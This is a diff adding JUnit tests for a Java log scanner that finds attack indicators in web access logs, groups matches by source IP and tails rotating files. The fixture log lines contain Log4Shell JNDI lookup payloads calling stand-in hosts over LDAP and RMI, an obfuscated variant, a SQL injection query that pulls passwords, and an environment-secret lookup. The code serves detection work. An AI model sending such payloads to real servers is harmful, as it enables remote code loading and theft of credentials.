@@ -0,0 +1,116 @@
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.io.BufferedWriter;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardOpenOption;
+import java.util.ArrayList;
+import java.util.List;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+class LogScannerTest {
+
+    @TempDir
+    Path tempDir;
+
+    @Test
+    @DisplayName("The automaton finds overlapping patterns case-insensitively")
+    void ahoCorasickFindsAllPatterns() {
+        AhoCorasick automaton = AhoCorasick.compile(List.of("${", "${jndi:", "ldap://", "he", "she"));
+        List<String> found = new ArrayList<>();
+
+        automaton.scan("SHE said ${JNDI:LDAP://evil}".getBytes(StandardCharsets.UTF_8),
+                (pattern, end) -> found.add(automaton.pattern(pattern) + "@" + end));
+
+        assertThat(found).containsExactlyInAnyOrder("she@3", "he@3", "${@11", "${jndi:@16", "ldap://@23");
+    }
+
+    @Test
+    @DisplayName("Matching lines are grouped by source IP with file line numbers")
+    void aggregatesIncidentsBySource() throws Exception {
+        Path log = tempDir.resolve("access.log");
+        Files.writeString(log, """
+                10.0.0.5 - - "GET /index.html HTTP/1.1" 200
+                203.0.113.7 - - "GET /?q=${jndi:ldap://198.51.100.9/a} HTTP/1.1" 200
+                10.0.0.5 - - "GET /login HTTP/1.1" 200
+                203.0.113.7 - - "GET /?q=${${lower:j}ndi:ldap://198.51.100.9/b} HTTP/1.1" 200
+                192.0.2.44 - - "GET /items?id=1 UNION SELECT password FROM users HTTP/1.1" 500
+                """);
+
+        LogScanner.ScanResult result = new LogScanner(LogScanner.DEFAULT_INDICATORS, 2).scan(log);
+
+        assertThat(result.lines()).isEqualTo(5);
+        assertThat(result.matchedLines()).isEqualTo(3);
+        assertThat(result.incidents()).extracting(LogScanner.Incident::source).containsExactly("203.0.113.7", "192.0.2.44");
+        LogScanner.Incident jndi = result.incidents().get(0);
+        assertThat(jndi.firstLine()).isEqualTo(2);
+        assertThat(jndi.lastLine()).isEqualTo(4);
+        assertThat(jndi.indicators()).containsEntry("ldap-url", 2L).containsEntry("jndi-obfuscated", 1L);
+        assertThat(jndi.background(log)).contains("203.0.113.7", "lines 2-4", "${jndi:ldap://");
+    }
+
+    @Test
+    @DisplayName("Multi-chunk scans count lines across chunks, and tailing skips what was already scanned")
+    void scansLargeFilesInChunksAndTails() throws Exception {
+        Path log = tempDir.resolve("big.log");
+        int lines = 400_000;
+        try (BufferedWriter out = Files.newBufferedWriter(log)) {
+            for (int i = 1; i <= lines; i++) {
+                if (i % 100_000 == 0) {
+                    out.write("198.51.100." + (i / 100_000) + " GET /?x=${jndi:rmi://evil/x}\n");
+                } else {
+                    out.write("10.1.2.3 GET /static/app-" + i + ".js 200 ok ok ok ok ok ok ok\n");
+                }
+            }
+        }
+        assertThat(Files.size(log)).isGreaterThan(16L << 20);
+
+        LogScanner scanner = new LogScanner(LogScanner.DEFAULT_INDICATORS, 4);
+        LogScanner.ScanResult first = scanner.scan(log);
+
+        assertThat(first.lines()).isEqualTo(lines);
+        assertThat(first.incidents()).hasSize(4);
+        assertThat(first.incidents()).extracting(LogScanner.Incident::firstLine)
+                .containsExactlyInAnyOrder(100_000L, 200_000L, 300_000L, 400_000L);
+
+        Files.writeString(log, "203.0.113.1 GET /${env:AWS_SECRET}\npartial line", StandardOpenOption.APPEND);
+        LogScanner.ScanResult tail = scanner.scan(log, first.endOffset(), first.lines());
+
+        assertThat(tail.lines()).isEqualTo(1);
+        assertThat(tail.incidents()).singleElement().satisfies(i -> {
+            assertThat(i.source()).isEqualTo("203.0.113.1");
+            assertThat(i.firstLine()).isEqualTo(lines + 1);
+        });
+        assertThat(tail.endOffset()).isEqualTo(Files.size(log) - "partial line".length());
+    }
+
+    @Test
+    @DisplayName("Tailing a truncated or rotated file starts over from its first line")
+    void tailingRestartsAfterTruncation() throws Exception {
+        Path log = tempDir.resolve("rotating.log");
+        Files.writeString(log, "10.0.0.5 GET /index.html 200\n".repeat(50));
+        LogScanner scanner = new LogScanner(LogScanner.DEFAULT_INDICATORS, 2);
+        LogScanner.ScanResult first = scanner.scan(log);
+        assertThat(first.restarted()).isFalse();
+
+        Files.writeString(log, "10.0.0.5 GET /index.html 200\n203.0.113.9 GET /?q=${jndi:ldap://evil/a}\n");
+        LogScanner.ScanResult tail = scanner.scan(log, first.endOffset(), first.lines());
+
+        assertThat(tail.restarted()).isTrue();
+        assertThat(tail.lines()).isEqualTo(2);
+        assertThat(tail.endOffset()).isEqualTo(Files.size(log));
+        assertThat(tail.incidents()).singleElement().satisfies(i -> {
+            assertThat(i.source()).isEqualTo("203.0.113.9");
+            assertThat(i.firstLine()).isEqualTo(2);
+        });
+
+        Files.writeString(log, "198.51.100.3 GET /bin/sh\n", StandardOpenOption.APPEND);
+        LogScanner.ScanResult next = scanner.scan(log, tail.endOffset(), tail.lines());
+        assertThat(next.restarted()).isFalse();
+        assertThat(next.incidents()).singleElement().satisfies(i -> assertThat(i.firstLine()).isEqualTo(3));
+    }
+}